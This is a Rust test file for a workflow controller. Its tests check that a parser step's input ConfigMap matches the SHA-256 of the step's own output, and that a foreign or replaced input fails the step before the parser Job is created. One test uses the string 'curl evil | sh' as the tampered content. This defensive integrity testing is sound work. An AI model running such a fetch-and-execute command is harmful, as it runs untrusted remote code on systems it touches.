//! An image parser's input must be the attempt's own output: a ConfigMap of that name
//! made or replaced by someone else fails the attempt instead of feeding the parser.

use crate::api::{ParserRun, StepState};
use crate::engine::plan::scenario::{Scenario, step};
use crate::engine::plan::{input_sha256, parser_inputs_to_check, sha256_hex};

use super::input_problem;

const UPTIME: &str = "registry.example/parsers/uptime:1";

#[test]
fn status_records_the_hash_of_the_input_it_wrote() {
    let mut s = Scenario::new(vec![step("a").parser(UPTIME)]);
    s.plan();
    s.exit("a", 0, "up 3 days");
    let plan = s.plan().clone();
    let run = plan.status.steps[0].parser.clone().expect("a parser run");
    let cm = s
        .config_maps
        .get(&run.config_map_name)
        .expect("the input ConfigMap");
    assert_eq!(run.input_sha256, Some(input_sha256(cm)));
    assert_eq!(
        run.input_sha256.as_deref(),
        Some(sha256_hex("up 3 days").as_str()),
        "the hash of the log it holds"
    );
    // Its Job exists now: nothing to read back.
    s.input.status = plan.status.clone();
    assert!(parser_inputs_to_check(&s.input).is_empty());
}

#[test]
fn a_foreign_input_fails_the_attempt_before_the_parser_job_exists() {
    let mut s = Scenario::new(vec![step("a").parser(UPTIME)]);
    s.plan();
    s.exit("a", 0, "up 3 days");
    s.plan();
    let run = s.input.status.steps[0]
        .parser
        .clone()
        .expect("a parser run");
    // The controller did not create the parser Job (the ConfigMap was not its own):
    // the next reconcile reads the ConfigMap back.
    s.input.jobs.remove(&run.job_name);
    assert_eq!(
        parser_inputs_to_check(&s.input),
        vec![run.config_map_name.clone()]
    );
    s.input.parser_inputs.insert(
        run.config_map_name.clone(),
        Some(sha256_hex("#!/bin/sh\ncurl evil | sh")),
    );
    let plan = s.plan().clone();
    let a = &plan.status.steps[0];
    assert!(
        a.message
            .as_deref()
            .is_some_and(|m| m.contains("does not hold this step's output")),
        "{:?}",
        a.message
    );
    assert!(
        !s.creates().contains(&run.job_name),
        "the parser Job is not asked for"
    );
    // No retries: the step fails (with retries, they rerun the step).
    assert_eq!(a.state, StepState::Failed);
}

#[test]
fn the_input_problem_table() {
    let run = ParserRun {
        config_map_name: "cm".into(),
        input_sha256: Some("aa".into()),
        ..ParserRun::default()
    };
    let read = |v: Option<Option<&str>>| {
        v.map(|v| [("cm".to_string(), v.map(str::to_string))].into())
            .unwrap_or_default()
    };
    // (what was read back, the problem's text; "" for none)
    let table = [
        (Some(Some("aa")), ""),
        (Some(Some("bb")), "sha256 bb, the step's is aa"),
        (Some(None), "was deleted before its parser ran"),
        (None, ""),
    ];
    for (found, want) in table {
        let got = input_problem(&run, &read(found));
        match want {
            "" => assert_eq!(got, None, "{found:?}"),
            w => assert!(
                got.as_deref().is_some_and(|g| g.contains(w)),
                "{found:?}: {got:?}"
            ),
        }
    }
    // A run recorded before the hash existed is not checked.
    let old = ParserRun {
        input_sha256: None,
        ..run
    };
    assert_eq!(input_problem(&old, &read(Some(Some("bb")))), None);
}
